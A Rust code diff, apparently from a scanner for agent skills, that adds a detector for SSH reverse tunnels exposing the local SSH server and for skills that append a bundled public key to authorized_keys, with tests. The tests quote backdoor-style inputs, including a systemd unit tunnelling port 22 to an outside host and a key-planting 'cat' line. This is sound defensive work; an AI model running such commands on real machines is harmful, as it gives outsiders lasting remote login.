@@ -88,6 +88,36 @@ pub(crate) fn answered(finding: &super::Finding) -> bool {
             .any(|what| finding.message.starts_with(what))
 }
 
+/// A remote port forwarded to this machine's SSH server (`ssh -R 0:127.0.0.1:22 relay`,
+/// `RemoteForward 2222 localhost:22`): whoever holds the other end can log in from outside.
+static SSH_SERVER_FORWARDED: LazyLock<Pattern> = LazyLock::new(|| {
+    Pattern::new(r"(?:^|[[:space:]'\x22])-R[[:space:]]*(?:[^[:space:]:'\x22]+:)?[^[:space:]:'\x22]+:(?:127\.0\.0\.1|localhost|\[::1\]):22(?:[[:space:]'\x22\\]|$)|(?i:RemoteForward)[[:space:]]+[^[:space:]]+[[:space:]]+(?:127\.0\.0\.1|localhost|\[::1\]):22(?:[[:space:]]|$)")
+        .expect("a valid forwarding pattern")
+});
+
+/// A tunnel that opens this machine's SSH login to another host, a way in that lasts as long
+/// as the tunnel (a unit restarts it for ever).
+pub(crate) fn check_ssh_server_forwarded(text: &Text, out: &mut Vec<Finding>) {
+    if !text.text.contains(":22") {
+        return;
+    }
+    for m in SSH_SERVER_FORWARDED.find_iter(text.text) {
+        let line = text.line_at(m.start());
+        out.push(text.finding(
+            &PERSISTENT_REMOTE_CODE,
+            Span::new(m.start(), m.end()),
+            format!(
+                "forwards a remote port to this machine's SSH server: `{}`",
+                excerpt(&text.text[line])
+            ),
+            "whoever holds the other end of the tunnel can log in to this machine from outside, \
+             past its firewall, for as long as the tunnel runs",
+            "a skill never needs to open the machine's SSH login to another host; forward only \
+             the port of the service being shown",
+        ));
+    }
+}
+
 /// Ways a skill makes something start again on its own.
 pub(crate) fn check_persistence(text: &Text, out: &mut Vec<Finding>) {
     if !text.triggered(family::PERSIST) {
@@ -159,6 +189,23 @@ static LITERAL_KEY: LazyLock<Pattern> = LazyLock::new(|| {
         .expect("a valid key pattern")
 });
 
+/// Whether `written` copies a public key file from a folder of the skill's own
+/// (`cat "$here/keys/relay.pub" >> ~/.ssh/authorized_keys`): a key the skill ships. A bare
+/// `id_rsa.pub` the user copied over, and keys under home, `~/.ssh` or an absolute path, are the
+/// user's.
+fn copies_a_carried_key(written: &str) -> bool {
+    written
+        .split(|c: char| c.is_whitespace() || matches!(c, '\'' | '"' | ';' | '(' | ')'))
+        .any(|word| {
+            word.ends_with(".pub")
+                && word.contains('/')
+                && !word.contains(".ssh/")
+                && !["~", "/", "$HOME", "${HOME}"]
+                    .iter()
+                    .any(|p| word.starts_with(p))
+        })
+}
+
 /// The start of a here-document, whose body is what the line writes.
 static HEREDOC: LazyLock<Pattern> = LazyLock::new(|| {
     Pattern::new(r#"<<-?[[:space:]]*['"]?([[:word:]]+)['"]?"#).expect("a valid heredoc pattern")
@@ -184,8 +231,7 @@ fn remote_code(text: &Text, line: Range<usize>, what: &str) -> Option<&'static s
         if FETCH.is_match(written) {
             return Some("authorizes a key it downloads");
         }
-        return LITERAL_KEY
-            .is_match(written)
+        return (LITERAL_KEY.is_match(written) || copies_a_carried_key(written))
             .then_some("authorizes a key the skill carries");
     }
     if what == AGENT_HOOK && SEND.is_match(written) {
@@ -293,6 +339,7 @@ pub(super) fn compile() {
     LazyLock::force(&WAYS);
     LazyLock::force(&SETTING);
     LazyLock::force(&LITERAL_KEY);
+    LazyLock::force(&SSH_SERVER_FORWARDED);
     LazyLock::force(&HEREDOC);
     LazyLock::force(&STOP_ASKING);
     LazyLock::force(&WRITES);
@@ -328,6 +375,12 @@ mod tests {
         assert_eq!(codes(unit), ["SK921", "SK910"]);
         let key = "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGxq5mE0eW6Rk0Q9mJ2u4c8sVh1yZ0pT3aN7bW5dK2fX ops' >> ~/.ssh/authorized_keys\n";
         assert_eq!(codes(key), ["SK921"]);
+        let carried = "cat \"$here/keys/relay.pub\" >> \"$HOME/.ssh/authorized_keys\"\n";
+        assert_eq!(codes(carried), ["SK921"]);
+        assert_eq!(
+            codes("cat id_ed25519.pub >> ~/.ssh/authorized_keys\n"),
+            ["SK910"]
+        );
         let placeholder = "echo \"ssh-rsa AAAAB3...\" >> ~/.ssh/authorized_keys\n";
         assert_eq!(codes(placeholder), ["SK910"]);
         assert_eq!(
@@ -353,6 +406,24 @@ mod tests {
             codes_in(".vscode/tasks.json", &task("npm run watch")),
             ["SK910"]
         );
+    }
+
+    #[test]
+    fn a_tunnel_that_opens_this_machines_ssh_login_to_another_host() {
+        let found = |text: &str| {
+            let t = Text::new("units/fwd.service", text);
+            let mut out = Vec::new();
+            check_ssh_server_forwarded(&t, &mut out);
+            out.iter().map(|f| f.rule.code).collect::<Vec<_>>()
+        };
+        let unit = "ExecStart=/usr/bin/ssh -N \\\n  -R 8080:127.0.0.1:3000 \\\n  -R 0:127.0.0.1:22 \\\n  fwd@198.51.100.23\n";
+        assert_eq!(found(unit), ["SK921"]);
+        assert_eq!(
+            found("Host relay\n  RemoteForward 2222 localhost:22\n"),
+            ["SK921"]
+        );
+        assert!(found("ssh -N -R 8080:localhost:3000 relay.example\n").is_empty());
+        assert!(found("ssh -L 5432:db.internal:5432 -p 22 bastion\n").is_empty());
     }
 
     #[test]
